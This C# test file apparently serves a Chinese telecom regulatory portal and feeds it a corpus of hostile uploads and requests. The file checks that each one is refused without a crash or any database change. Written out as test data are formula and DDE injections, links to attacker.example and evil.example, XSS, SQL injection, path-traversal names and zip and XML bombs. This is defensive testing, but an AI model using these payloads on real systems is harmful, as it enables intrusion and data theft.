using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Supervision.Domain.Access;
using Supervision.Domain.Common;
using Supervision.Domain.Data;
using Supervision.Domain.Documents;
using Supervision.Domain.Enforcement;
using Supervision.Domain.Organizations;
using Supervision.Domain.Submissions;
using Supervision.Tests.Infrastructure;
using static Supervision.Tests.Web.Hostile.HostileFiles;

namespace Supervision.Tests.Web.Hostile;

/// <summary>
/// The hostile input corpus: bad files and requests through the real endpoints and services. Each must be refused
/// cleanly — a 4xx with a stable code and a Chinese message, or a Chinese validation message — never a 500, and the
/// database must be as it was (every table counted before and after; only the refused-upload log and the audit trail grow).
/// </summary>
public partial class HostileInputCorpusTests(Portal portal) : IClassFixture<Portal>
{
    private const string CmccKey = "spk_demoCMCC64_NingxiaMobile_2026";
    private const string CuccKey = "spk_demoCUCC64_NingxiaUnicom_2026";
    // Logs and counters that a refused request still writes (failed sign-ins are counted by name: SignInThrottle).
    private static readonly string[] LogTables = ["SubmissionAttempts", "AuditEntries", "AuditHeads", "FailedSignIns"];

    /// <summary>One hostile upload: the bytes, the name they come under, the form fields, and the code it must be refused with (when one is certain).</summary>
    public sealed record Upload(Func<byte[]> File, string FileName = "月报.xlsx", string Template = "RN-MONTHLY", string Period = "2026-09",
        string? IdempotencyKey = null, string? Code = null, params int[] Statuses);

    private const string LogCsv = "系统名称,日志类型,留存天数,最早可查记录日期,存储位置,抽查是否成功\n计费系统,访问日志,180,2026-01-01,省公司数据中心,是\n";

    private static readonly Dictionary<string, Upload> Uploads = new()
    {
        // Wrong types under a spreadsheet's name.
        ["pdf renamed .xlsx"] = new(Pdf, Statuses: 422),
        ["exe renamed .xlsx"] = new(Exe, Statuses: 422),
        ["elf binary"] = new(Elf, "月报.csv", Statuses: 422),
        ["png image as a return"] = new(() => Png(), Statuses: 422),
        ["jpeg image as a return"] = new(Jpeg, Statuses: 422),
        ["gif image as a return"] = new(Gif, Statuses: 422),
        ["svg with script as a return"] = new(Svg, Statuses: 422),
        ["html table saved as .xls"] = new(Html, "月报.xls", Statuses: 422),
        ["old binary xls (ole2)"] = new(Ole2, "月报.xls", Statuses: 422),
        ["docx renamed .xlsx"] = new(Docx, Statuses: 422),
        ["random bytes"] = new(() => HostileFiles.Random(64 * 1024, 7), Statuses: 422),
        ["empty file"] = new(() => [], Statuses: [400, 422]),
        // Truncated and oversized.
        ["xlsx cut in half"] = new(() => Truncated(ValidRnMonthly(), ValidRnMonthly().Length / 2), Statuses: 422),
        ["xlsx cut to 40 bytes"] = new(() => Truncated(ValidRnMonthly(), 40), Statuses: 422),
        ["xlsx without its last 30 bytes"] = new(() => Truncated(ValidRnMonthly(), ValidRnMonthly().Length - 30), Statuses: 422),
        ["file over 30 MB"] = new(() => new byte[31 * 1024 * 1024], Statuses: 413),
        // Bombs and hostile XML.
        ["zip bomb by ratio"] = new(ZipBombRatio, Statuses: 422),
        ["zip bomb by entry count"] = new(ZipBombEntries, Statuses: 422),
        ["billion laughs in shared strings"] = new(BillionLaughs, Statuses: 422),
        ["external entity (xxe) in workbook.xml"] = new(ExternalEntity, Statuses: 422),
        ["xml nested 20000 deep"] = new(DeepXml, Statuses: 422),
        ["row 300001"] = new(RowBeyondLimit, Statuses: 422),
        ["column XFD"] = new(ColumnBeyondLimit, Statuses: 422),
        ["cell of 40000 characters"] = new(CellTooLong, Statuses: 422),
        ["formula cell calling a web service"] = new(FormulaCell, Code: "file.external_formula", Statuses: 422),
        ["formula cell reading another workbook"] = new(() => FormulaCell("[1]Sheet1!A1"), Code: "file.external_formula", Statuses: 422),
        ["formula cell with a DDE link"] = new(() => FormulaCell("cmd|' /c calc'!A0"), Code: "file.external_formula", Statuses: 422),
        ["formula cell linking a network share"] = new(() => FormulaCell("HYPERLINK(\"\\\\attacker.example\\share\\a.xlsx\",\"点此\")"), Code: "file.external_formula", Statuses: 422),
        // Formula (CSV) injection and markup in the free-text cells of an otherwise valid return.
        ["=cmd formula text in a text cell"] = new(() => LogQuarterlyWithText("=cmd|' /C calc'!A0"), Template: "LOG-QUARTERLY", Period: "2026-Q3", Statuses: 422),
        ["+ formula text in a text cell"] = new(() => LogQuarterlyWithText("+HYPERLINK(\"http://evil.example\",\"点此\")"), Template: "LOG-QUARTERLY", Period: "2026-Q3", Statuses: 422),
        ["@ formula text in a text cell"] = new(() => LogQuarterlyWithText("@SUM(1+1)*cmd|' /C calc'!A0"), Template: "LOG-QUARTERLY", Period: "2026-Q3", Statuses: 422),
        ["-2+3 formula text in a text cell"] = new(() => LogQuarterlyWithText("-2+3+cmd|' /C calc'!A0"), Template: "LOG-QUARTERLY", Period: "2026-Q3", Statuses: 422),
        ["script tag in a text cell"] = new(() => LogQuarterlyWithText("<script>alert(document.cookie)</script>"), Template: "LOG-QUARTERLY", Period: "2026-Q3", Statuses: 422),
        ["img onerror in a text cell"] = new(() => LogQuarterlyWithText("机房<img src=x onerror=alert(1)>"), Template: "LOG-QUARTERLY", Period: "2026-Q3", Statuses: 422),
        // NUL and other control characters in text (PostgreSQL refuses NUL in text outright): Excel's _x0000_ escape, a raw byte in CSV.
        ["NUL in a text cell (_x0000_)"] = new(() => LogQuarterlyWithText("省公司_x0000_数据中心"), Template: "LOG-QUARTERLY", Period: "2026-Q3", Statuses: 422),
        ["escape character in a text cell (_x001B_)"] = new(() => LogQuarterlyWithText("_x001B_[2J机房"), Template: "LOG-QUARTERLY", Period: "2026-Q3", Statuses: 422),
        ["csv with NUL in a text cell"] = new(() => Csv("系统名称,日志类型,留存天数,最早可查记录日期,存储位置,抽查是否成功\n计费系统,访问日志,180,2026-01-01,机房\0A,是\n"), "日志.csv", "LOG-QUARTERLY", "2026-Q3", Statuses: 422),
        ["csv with formula and markup"] = new(() => Csv("系统名称,日志类型,留存天数,最早可查记录日期,存储位置,抽查是否成功\n=1+1,<b>x</b>,1,2026-01-01,@x,是\n"), "日志.csv", "LOG-QUARTERLY", "2026-Q3", Statuses: 422),
        // Path traversal and hostile names (the content is a valid return: the name alone refuses it).
        ["name ../../etc/passwd"] = new(() => ValidRnMonthly(), "../../etc/passwd", Statuses: 400),
        ["absolute name /etc/passwd"] = new(() => ValidRnMonthly(), "/etc/passwd", Statuses: 400),
        ["windows path name"] = new(() => ValidRnMonthly(), "C:\\Windows\\System32\\config\\SAM.xlsx", Statuses: 400),
        ["alternate data stream name"] = new(() => ValidRnMonthly(), "月报.xlsx:Zone.Identifier", Statuses: 400),
        ["name of only dots"] = new(() => ValidRnMonthly(), "..", Statuses: 400),
        ["name with NUL"] = new(() => ValidRnMonthly(), "月报.xlsx\0.exe", Statuses: 400),
        ["name with a line break (header splitting)"] = new(() => ValidRnMonthly(), "a.xlsx\r\nContent-Type: text/html", Statuses: 400),
        ["name of 300 characters"] = new(() => ValidRnMonthly(), new string('长', 296) + ".xlsx", Statuses: 400),
        // Names that hide what the file is, and extensions that do not fit the content (the content is a valid return).
        ["bidi override in the name (rn‮xslx.exe)"] = new(() => ValidRnMonthly(), "rn\u202Exslx.exe", Code: "file.name_invalid", Statuses: 400),
        ["zero-width space in the name"] = new(() => ValidRnMonthly(), "月报\u200B.xlsx", Code: "file.name_invalid", Statuses: 400),
        ["workbook named .csv"] = new(() => ValidRnMonthly(), "月报.csv", Code: "file.extension_mismatch", Statuses: 422),
        ["workbook named .exe"] = new(() => ValidRnMonthly(), "月报.exe", Code: "file.extension_mismatch", Statuses: 422),
        ["workbook without an extension"] = new(() => ValidRnMonthly(), "月报", Code: "file.extension_mismatch", Statuses: 422),
        ["csv named .xlsx"] = new(() => Csv(LogCsv), "日志.xlsx", "LOG-QUARTERLY", "2026-Q3", Code: "file.extension_mismatch", Statuses: 422),
        // Valid sheets in a package that carries something else: macros, links out, entries that unzip elsewhere.
        ["valid return with vbaProject.bin"] = new(WithVbaProject, Code: "file.macro", Statuses: 422),
        ["valid return with an external link"] = new(WithExternalLink, Code: "file.external_link", Statuses: 422),
        ["valid return with a ../ entry"] = new(() => WithEntry("../../etc/cron.d/evil"), Code: "file.unsafe_path", Statuses: 422),
        ["valid return with an absolute entry"] = new(() => WithEntry("/etc/cron.d/evil"), Code: "file.unsafe_path", Statuses: 422),
        // Script and junk in every free-text field of the API form.
        ["script as the template code"] = new(() => ValidRnMonthly(), Template: "<script>alert(1)</script>", Statuses: 404),
        ["script as the period"] = new(() => ValidRnMonthly(), Period: "<img src=x onerror=alert(1)>", Statuses: 400),
        ["month 13"] = new(() => ValidRnMonthly(), Period: "2026-13", Statuses: 400),
        ["sql in the period"] = new(() => ValidRnMonthly(), Period: "2026-09' OR '1'='1", Statuses: 400),
        ["script as the idempotency key"] = new(() => ValidRnMonthly(), IdempotencyKey: "<script>alert(1)</script>", Statuses: 400),
        ["idempotency key of 5000 characters"] = new(() => ValidRnMonthly(), IdempotencyKey: new string('k', 5000), Statuses: 400),
        ["a return the branch does not file"] = new(() => ValidLogQuarterly(), Template: "LOG-QUARTERLY", Period: "2026-Q3", Statuses: 403),
    };

    public static TheoryData<string> UploadCases() => [.. Uploads.Keys];

    [Theory]
    [MemberData(nameof(UploadCases))]
    public async Task Each_hostile_upload_is_refused_cleanly_and_changes_nothing(string name)
    {
        var upload = Uploads[name];
        var before = await CountsAsync();
        var attemptsBefore = await CountAsync("SubmissionAttempts");
        var key = name == "a return the branch does not file" ? "spk_demoJDCOM64_JDMobile_2026" : CmccKey;
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/v1/submissions") { Content = RawMultipart(upload) };
        if (upload.IdempotencyKey is { } idem) request.Headers.TryAddWithoutValidation("Idempotency-Key", idem);
        var response = await Client(key).SendAsync(request);

        var body = await ApiErrorAsync(response, name, upload.Statuses, upload.Code);
        Assert.DoesNotContain("<script", body, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("<img", body, StringComparison.OrdinalIgnoreCase);
        Assert.Equal(before, await CountsAsync());
        // A refused file is logged as one attempt at most, under a name that is safe to show.
        var attempts = await CountAsync("SubmissionAttempts");
        Assert.InRange(attempts - attemptsBefore, 0, 1);
        if (attempts > attemptsBefore)
        {
            await using var db = portal.Db();
            var attempt = await db.SubmissionAttempts.OrderByDescending(a => a.Id).FirstAsync();
            Assert.DoesNotMatch("[/\\\\:\\x00-\\x1f\\u200b-\\u200f\\u202a-\\u202e\\u2066-\\u2069]", attempt.FileName);
        }
    }

    /// <summary>Every refused name is a name the API refuses; the same names stored by the services are reduced to a safe last segment.</summary>
    [Theory]
    [InlineData("../../etc/passwd")]
    [InlineData("/etc/passwd")]
    [InlineData("..\\..\\boot.ini")]
    [InlineData("a\0b.pdf")]
    [InlineData("rn\u202Exslx.exe")]
    [InlineData("照片\u2066gpj.exe\u2069")]
    [InlineData("a\u200Bb.pdf")]
    [InlineData("a\u2028b.pdf")]
    public void A_hostile_name_is_refused_by_the_one_name_rule(string name)
    {
        var e = Assert.Throws<DomainException>(() => Supervision.Domain.Files.StoredFile.CheckName(name));
        Assert.Equal("file.name_invalid", e.Code);
        Assert.Matches(Chinese(), e.Message);
        var safe = Supervision.Domain.Files.StoredFile.SafeName(name);
        Assert.DoesNotContain("/", safe);
        // What is stored and shown (also inside the message) reads as what it is: "rnxslx.exe", not "rnexe.xlsx".
        foreach (var text in new[] { safe, e.Message })
            Assert.DoesNotMatch("[\\x00-\\x1f\\u200b-\\u200f\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069]", text);
    }

    /// <summary>A request to the API that must fail, the status it fails with and its code.</summary>
    public sealed record Failing(Func<HttpRequestMessage> Request, int Status, string Code, string? Key = CmccKey);

    private static HttpRequestMessage Post(HttpContent content, string path = "/api/v1/submissions") => new(HttpMethod.Post, path) { Content = content };

    private static ByteArrayContent Raw(string body, string contentType)
    {
        var content = new ByteArrayContent(Encoding.UTF8.GetBytes(body));
        content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        return content;
    }

    private static readonly Dictionary<string, Failing> FailingRequests = new()
    {
        // The body is not a multipart form: routing or the handler refuses it, never Blazor's text or antiforgery pages.
        ["json body"] = new(() => Post(new StringContent("{\"template\":\"RN-MONTHLY\"}", Encoding.UTF8, "application/json")), 415, "request.not_multipart"),
        ["json body with \\u0000"] = new(() => Post(new StringContent("{\"template\":\"RN\\u0000MONTHLY\",\"period\":\"2026-09\u0000\"}", Encoding.UTF8, "application/json")), 415, "request.not_multipart"),
        ["form-encoded body"] = new(() => Post(new FormUrlEncodedContent([new("template", "RN-MONTHLY"), new("period", "2026-09")])), 415, "request.not_multipart"),
        ["plain text body"] = new(() => Post(new StringContent("RN-MONTHLY")), 415, "request.not_multipart"),
        ["no body"] = new(() => new HttpRequestMessage(HttpMethod.Post, "/api/v1/submissions"), 415, "request.not_multipart"),
        // Malformed multipart.
        ["multipart without a boundary"] = new(() => Post(Raw("--x\r\nContent-Disposition: form-data; name=\"template\"\r\n\r\nRN-MONTHLY\r\n--x--\r\n", "multipart/form-data")),
            400, "request.malformed"),
        ["multipart cut short"] = new(() => Post(Raw("--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.xlsx\"\r\n\r\nPK\x03\x04", "multipart/form-data; boundary=x")),
            400, "request.malformed"),
        ["part without content-disposition"] = new(() => Post(Raw("--x\r\nContent-Type: text/plain\r\n\r\nRN-MONTHLY\r\n--x--\r\n", "multipart/form-data; boundary=x")),
            400, "request.malformed"),
        ["5,000 parts"] = new(() =>
        {
            var many = new MultipartFormDataContent();
            for (var i = 0; i < 5000; i++) many.Add(new StringContent("x"), $"f{i}");
            return Post(many);
        }, 400, "request.too_many_parts"),
        ["a text field of 5 MB"] = new(() => Post(new MultipartFormDataContent { { new StringContent(new string('a', 5 * 1024 * 1024)), "template" } }), 400, "request.field_too_long"),
        ["the same field twice"] = new(() => Post(new MultipartFormDataContent { { new StringContent("RN-MONTHLY"), "template" }, { new StringContent("LOG-QUARTERLY"), "template" } }),
            400, "request.duplicate_field"),
        ["a file over 30 MB"] = new(() => Post(new MultipartFormDataContent
        {
            { new ByteArrayContent(new byte[31 * 1024 * 1024]), "file", "月报.xlsx" }, { new StringContent("RN-MONTHLY"), "template" }, { new StringContent("2026-09"), "period" },
        }), 413, "file.too_large"),
        ["no file"] = new(() => Post(new MultipartFormDataContent { { new StringContent("RN-MONTHLY"), "template" }, { new StringContent("2026-09"), "period" } }),
            400, "request.missing_field"),
        // Keys.
        ["no API key"] = new(() => Post(RawMultipart(new Upload(() => ValidRnMonthly()))), 401, "auth.invalid_key", Key: null),
        ["a wrong API key"] = new(() => Post(RawMultipart(new Upload(() => ValidRnMonthly()))), 401, "auth.invalid_key", Key: "spk_demoCMCC64_NingxiaMobile_2027"),
        ["a bad Idempotency-Key"] = new(() =>
        {
            var request = Post(RawMultipart(new Upload(() => ValidRnMonthly())));
            request.Headers.TryAddWithoutValidation("Idempotency-Key", "键 with spaces");
            return request;
        }, 400, "request.idempotency_key"),
        // Routes and methods.
        ["an unknown route under /api"] = new(() => new HttpRequestMessage(HttpMethod.Get, "/api/v1/nothing"), 404, "api.not_found"),
        ["an unknown route under /api without a key"] = new(() => new HttpRequestMessage(HttpMethod.Get, "/api/v2/submissions/1"), 404, "api.not_found", Key: null),
        ["a submission id that is no number"] = new(() => new HttpRequestMessage(HttpMethod.Get, "/api/v1/submissions/abc"), 404, "api.not_found"),
        ["DELETE a submission"] = new(() => new HttpRequestMessage(HttpMethod.Delete, "/api/v1/submissions/1"), 405, "request.method_not_allowed"),
        ["PATCH a submission"] = new(() => new HttpRequestMessage(HttpMethod.Patch, "/api/v1/submissions/1") { Content = new StringContent("{}") }, 405, "request.method_not_allowed"),
        ["PUT a template"] = new(() => new HttpRequestMessage(HttpMethod.Put, "/api/v1/templates/RN-MONTHLY") { Content = new StringContent("x") }, 405, "request.method_not_allowed"),
        // The handlers' own refusals.
        ["an unknown template"] = new(() => new HttpRequestMessage(HttpMethod.Get, "/api/v1/templates/NO-SUCH"), 404, "template.unknown"),
        ["a template period that is no period"] = new(() => new HttpRequestMessage(HttpMethod.Get, "/api/v1/templates/RN-MONTHLY?period=2026-13"), 400, "period.invalid"),
        ["a submission that does not exist"] = new(() => new HttpRequestMessage(HttpMethod.Get, "/api/v1/submissions/0"), 404, "not_found"),
    };

    public static TheoryData<string> FailingCases() => [.. FailingRequests.Keys];

    /// <summary>Every way an API request can fail answers the documented JSON shape with a stable code and a Chinese message, and stores nothing.</summary>
    [Theory]
    [MemberData(nameof(FailingCases))]
    public async Task Every_api_error_is_the_documented_json(string name)
    {
        var failing = FailingRequests[name];
        var before = await CountsAsync();
        var client = failing.Key is null ? portal.Anonymous() : Client(failing.Key);
        await ApiErrorAsync(await client.SendAsync(failing.Request()), name, [failing.Status], failing.Code);
        Assert.Equal(before, await CountsAsync());
    }

    /// <summary>HEAD on each GET endpoint answers as GET does (status, content type), without a body; not 405.</summary>
    [Theory]
    [InlineData("/api/v1/templates/RN-MONTHLY")]
    [InlineData("/api/v1/templates/NO-SUCH")]
    [InlineData("/api/v1/submissions/0")]
    public async Task Head_on_an_api_get_endpoint_answers_like_get_without_a_body(string url)
    {
        var client = Client(CmccKey);
        var get = await client.GetAsync(url);
        var head = await client.SendAsync(new HttpRequestMessage(HttpMethod.Head, url));
        Assert.Equal((get.StatusCode, get.Content.Headers.ContentType?.MediaType), (head.StatusCode, head.Content.Headers.ContentType?.MediaType));
        Assert.NotEmpty(await get.Content.ReadAsByteArrayAsync());
        Assert.Empty(await head.Content.ReadAsByteArrayAsync());
    }

    [Theory]
    [InlineData("Bearer spk_")]
    [InlineData("Bearer spk_demoCMCC64_NingxiaMobile_2026x")]
    [InlineData("Bearer spk_demoCMCC64_NingxiaMobile_202")]
    [InlineData("Bearer ' OR 1=1 --")]
    [InlineData("Basic YWRtaW46RGVtbyMyMDI2")]
    [InlineData("Bearer spk_\u0000demoCMCC64_NingxiaMobile_2026")]
    public async Task Malformed_keys_answer_401(string header)
    {
        var client = portal.Anonymous();
        var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/submissions/1");
        request.Headers.TryAddWithoutValidation("Authorization", header);
        var response = await client.SendAsync(request);
        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
        Assert.Equal("auth.invalid_key", JsonDocument.Parse(await response.Content.ReadAsStringAsync()).RootElement.GetProperty("errors")[0].GetProperty("code").GetString());
    }

    [Fact]
    public async Task An_oversized_authorization_header_is_401_not_a_crash()
    {
        var response = await Client("spk_" + new string('A', 64 * 1024)).GetAsync("/api/v1/templates/RN-MONTHLY");
        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
    }

    [Fact]
    public async Task Expired_and_revoked_keys_answer_401_and_upload_nothing()
    {
        await using var db = portal.Db();
        var branch = await db.Branches.SingleAsync(b => b.Code == "CMCC-64");
        string expiring, revoked;
        using (var scope = portal.ScopeFor(AccessScope.System with { Role = UserRole.SystemAdmin }, "admin"))
        {
            var keys = scope.ServiceProvider.GetRequiredService<ApiKeyService>();
            var signatory = await db.Users.Where(u => u.UserName == "carrier.cmcc.nx").Select(u => u.Id).SingleAsync();
            expiring = await keys.IssueAsync(branch.Id, "到期测试", signatory, portal.Clock.GetUtcNow().AddDays(1));
            revoked = await keys.IssueAsync(branch.Id, "吊销测试", signatory, null);
            Assert.Equal(HttpStatusCode.OK, (await Client(expiring).GetAsync("/api/v1/templates/RN-MONTHLY?period=2026-09")).StatusCode);
            await keys.RevokeAsync((await keys.ListAsync(branch.Id)).First(k => k.Name == "吊销测试").Id);
        }
        var now = portal.Clock.GetUtcNow();
        portal.Clock.SetUtcNow(now.AddDays(2));
        try
        {
            var before = await CountsAsync();
            foreach (var key in new[] { expiring, revoked })
            {
                var response = await Client(key).PostAsync("/api/v1/submissions", RawMultipart(new Upload(() => ValidRnMonthly("2026-07"), Period: "2026-07")));
                Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
                Assert.Contains("已吊销、已过期", await response.Content.ReadAsStringAsync());
            }
            Assert.Equal(before, await CountsAsync());
        }
        finally
        {
            portal.Clock.SetUtcNow(now);
        }
    }

    /// <summary>Ids of another carrier's records, forged into the API, the pages and the services: not found, never shown.</summary>
    [Fact]
    public async Task Forged_ids_of_another_carriers_records_are_not_found()
    {
        var created = await Client(CmccKey).PostAsync("/api/v1/submissions", RawMultipart(new Upload(() => ValidRnMonthly("2026-06"), Period: "2026-06")));
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var submissionId = JsonDocument.Parse(await created.Content.ReadAsStringAsync()).RootElement.GetProperty("id").GetInt64();
        var before = await CountsAsync();

        // API: another branch's key, and ids that do not exist.
        foreach (var path in new[] { $"/api/v1/submissions/{submissionId}", "/api/v1/submissions/0", "/api/v1/submissions/-1", $"/api/v1/submissions/{long.MaxValue}" })
            Assert.Equal(HttpStatusCode.NotFound, (await Client(CuccKey).GetAsync(path)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await Client(CuccKey).GetAsync("/api/v1/templates/..%2F..%2Fetc%2Fpasswd")).StatusCode);

        await using var db = portal.Db();
        var cmcc = await db.Branches.SingleAsync(b => b.Code == "CMCC-64");
        var cucc = await db.Branches.SingleAsync(b => b.Code == "CUCC-64");
        var cmccCase = await db.EnforcementCases.Where(c => c.BranchId == cmcc.Id || db.Branches.Any(b => b.Id == c.BranchId && b.ParentBranchId == cmcc.Id)).Select(c => c.Id).FirstAsync();
        var owner = cmccCase.ToString(System.Globalization.CultureInfo.InvariantCulture);
        var document = await db.IssuedDocuments.Where(d => d.OwnerType == "EnforcementCase" && d.OwnerId == owner).Select(d => d.Id).FirstOrDefaultAsync();

        // Pages: the carrier user of another carrier, and the inspector of another province.
        var cuccUser = await portal.AsAsync("carrier.cucc.nx");
        Assert.Equal(HttpStatusCode.NotFound, (await cuccUser.GetAsync($"/submissions/{submissionId}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await cuccUser.GetAsync($"/cases/{cmccCase}")).StatusCode);
        var gd = await portal.AsAsync("inspector.gd");
        Assert.Equal(HttpStatusCode.NotFound, (await gd.GetAsync($"/submissions/{submissionId}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await gd.GetAsync($"/cases/{cmccCase}")).StatusCode);

        // Services, as the pages call them: the original file, the case, its issued documents.
        using var scope = portal.ScopeFor(AccessScope.ForBranches(cucc.ProvinceId, cucc.CarrierId, [cucc.Id]), "carrier.cucc.nx");
        var sp = scope.ServiceProvider;
        await Assert.ThrowsAsync<NotFoundException>(() => sp.GetRequiredService<SubmissionService>().OriginalAsync(submissionId));
        await Assert.ThrowsAsync<NotFoundException>(() => sp.GetRequiredService<SubmissionService>().OriginalAsync(submissionId, attachment: true));
        await Assert.ThrowsAsync<NotFoundException>(() => sp.GetRequiredService<EnforcementService>().GetAsync(cmccCase));
        if (document != 0)
            await Assert.ThrowsAsync<NotFoundException>(() => sp.GetRequiredService<DocumentRegistry>().DownloadAsync(document));
        Assert.Equal(before, await CountsAsync());
    }

    public static TheoryData<string, string, string> SealCases() => new()
    {
        { "exe", "seal.png", "seal.type" },
        { "svg", "seal.svg", "seal.type" },
        { "jpeg", "seal.jpg", "seal.type" },
        { "truncated", "seal.png", "seal.type" },
        { "huge", "seal.png", "seal.size" },
        { "forged-chunk", "seal.png", "seal.opaque" },
        { "traversal", "../../../var/www/seal.png", "file.name_invalid" },
        { "empty", "seal.png", "seal.empty" },
    };

    [Theory]
    [MemberData(nameof(SealCases))]
    public async Task Each_hostile_seal_image_is_refused_with_a_chinese_message(string kind, string fileName, string code)
    {
        var bytes = kind switch
        {
            "exe" => Exe(), "svg" => Svg(), "jpeg" => Jpeg(), "truncated" => Png()[..20], "huge" => Png(100_000, 100_000),
            "forged-chunk" => PngWithForgedChunkLength(), "traversal" => Png(), _ => [],
        };
        await using var db = portal.Db();
        var province = await db.Provinces.SingleAsync(p => p.Code == "64");
        var before = await CountsAsync();
        using var scope = portal.ScopeFor(AccessScope.System with { Role = UserRole.SystemAdmin }, "admin");
        var e = await Assert.ThrowsAsync<DomainException>(() => scope.ServiceProvider.GetRequiredService<OrganizationService>().SetSealAsync(province.Id, fileName, bytes));
        Assert.Equal(code, e.Code);
        Assert.Matches(Chinese(), e.Message);
        Assert.Equal(before, await CountsAsync());
    }

    public static TheoryData<string, string, string> EvidenceCases() => new()
    {
        { "exe", "证据.pdf", "evidence.type" },
        { "html", "证据.pdf", "evidence.type" },
        { "svg", "现场照片.svg", "evidence.type" },
        { "empty", "证据.pdf", "evidence.empty" },
        { "big", "证据.pdf", "evidence.too_large" },
        { "traversal", "../../etc/cron.d/evil.pdf", "file.name_invalid" },
        { "nul", "照片.jpg\0.exe", "file.name_invalid" },
        { "bidi", "照片\u202Egpj.exe", "file.name_invalid" },
        { "jpeg", "证据.pdf", "file.extension_mismatch" },
        { "pdf", "现场照片.jpg", "file.extension_mismatch" },
        { "png", "现场照片.jpeg", "file.extension_mismatch" },
        { "javascript", "证据.pdf", "pdf.script" },
        { "embedded", "证据.pdf", "pdf.embedded_file" },
        { "submit-on-open", "证据.pdf", "pdf.action" },
    };

    [Theory]
    [MemberData(nameof(EvidenceCases))]
    public async Task Each_hostile_evidence_file_is_refused_with_a_chinese_message(string kind, string fileName, string code)
    {
        var bytes = kind switch
        {
            "exe" => Exe(), "html" => Html(), "svg" => Svg(), "empty" => [], "big" => [.. Pdf(), .. new byte[Supervision.Domain.Files.EvidenceFiles.MaxBytes]],
            "pdf" => Pdf(), "png" => Png(), "javascript" => PdfWithJavaScript(), "embedded" => PdfWithEmbeddedFile(),
            "submit-on-open" => PdfSubmittingOnOpen(), _ => Jpeg(),
        };
        await using var db = portal.Db();
        var target = await db.EnforcementCases.Where(c => c.State == CaseState.Investigating).Select(c => new { c.Id, c.ProvinceId, c.ConcurrencyToken }).FirstAsync();
        var before = await CountsAsync();
        using var scope = portal.ScopeFor(AccessScope.ForProvince(target.ProvinceId, false, UserRole.Inspector), "inspector.nx");
        var e = await Assert.ThrowsAsync<DomainException>(() => scope.ServiceProvider.GetRequiredService<EnforcementService>()
            .AddEvidenceAsync(target.Id, target.ConcurrencyToken, "现场检查记录", new DateOnly(2026, 4, 1), (fileName, bytes)));
        Assert.Equal(code, e.Code);
        Assert.Matches(Chinese(), e.Message);
        Assert.Equal(before, await CountsAsync());
    }

    /// <summary>The signed PDF that comes with the annual self-inspection return: checked like evidence, with the valid workbook refused as a whole.</summary>
    [Theory]
    [InlineData("javascript", "自查报告（签章版）.pdf", "pdf.script")]
    [InlineData("embedded", "自查报告（签章版）.pdf", "pdf.embedded_file")]
    [InlineData("clean", "自查报告（签章版）.jpg", "file.extension_mismatch")]
    [InlineData("clean", "自查报告\u202Efdp.exe", "file.name_invalid")]
    public async Task Each_hostile_signed_pdf_of_the_annual_return_is_refused_and_nothing_is_stored(string kind, string pdfName, string code)
    {
        Dictionary<string, string> checklist;
        using (var scope = portal.ScopeFor(AccessScope.System))
            checklist = (await scope.ServiceProvider.GetRequiredService<Supervision.Domain.Catalog.CatalogService>().ListChecklistAsync(activeOnly: true))
                .Where(i => i.Code.StartsWith("RN-", StringComparison.Ordinal)).ToDictionary(i => i.Code, i => i.Title);
        var workbook = Supervision.Reports.Submissions.ReturnFileGenerator.SelfAnnual(new Supervision.Reports.Submissions.GeneratedReturn("CMCC-64", "2024", NingxiaCities, 3), checklist);
        var pdf = kind switch { "javascript" => PdfWithJavaScript(), "embedded" => PdfWithEmbeddedFile(), _ => Pdf() };
        var before = await CountsAsync();
        var form = new MultipartFormDataContent
        {
            { new ByteArrayContent(workbook), "file", "年度自查报告.xlsx" }, { new StringContent("SELF-ANNUAL"), "template" }, { new StringContent("2024"), "period" }, { new StringContent("true"), "attestation" },
            { new ByteArrayContent(pdf), "pdf", pdfName },
        };
        var body = await ApiErrorAsync(await Client(CmccKey).PostAsync("/api/v1/submissions", form), pdfName, [400, 422], code);
        Assert.Single(JsonDocument.Parse(body).RootElement.GetProperty("errors").EnumerateArray()); // the workbook itself is valid
        Assert.Equal(before, await CountsAsync());
    }

    /// <summary>Script in the sign-in form's fields: the usual Chinese error, rendered as text, and nobody signed in.</summary>
    [Theory]
    [InlineData("<script>alert(1)</script>", "x")]
    [InlineData("admin' OR '1'='1", "' OR '1'='1")]
    [InlineData("admin\"><img src=x onerror=alert(1)>", "Demo#2026")]
    public async Task Script_in_the_sign_in_form_is_shown_as_text_and_signs_nobody_in(string user, string password)
    {
        var before = await CountsAsync();
        var response = await Portal.SignInAsync(portal.Anonymous(), user, password);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var html = await response.Content.ReadAsStringAsync();
        Assert.Contains("用户名或密码错误", html);
        Assert.DoesNotContain("<script>alert", html);
        Assert.DoesNotContain("<img src=x", html);
        Assert.Equal(before, await CountsAsync());
    }

    /// <summary>NUL and other control characters in the public search (PostgreSQL refuses NUL in text): a 400 naming the field, on the page and every feed.</summary>
    [Theory]
    [InlineData("/public?party=%E9%93%B6%00%E5%B7%9D")]
    [InlineData("/public?number=%1B%5B2J")]
    [InlineData("/public/feed.json?party=a%00b")]
    [InlineData("/public/feed.rss?province=6%004")]
    [InlineData("/public/export.csv?number=%00")]
    public async Task Control_characters_in_the_public_search_are_a_400_naming_the_field(string url)
    {
        var before = await CountsAsync();
        var response = await portal.Anonymous().GetAsync(url);
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{url}: {(int)response.StatusCode} {body[..Math.Min(400, body.Length)]}");
        if (url.StartsWith("/public?", StringComparison.Ordinal))
            Assert.Contains("含有不可见的控制字符", body);
        else
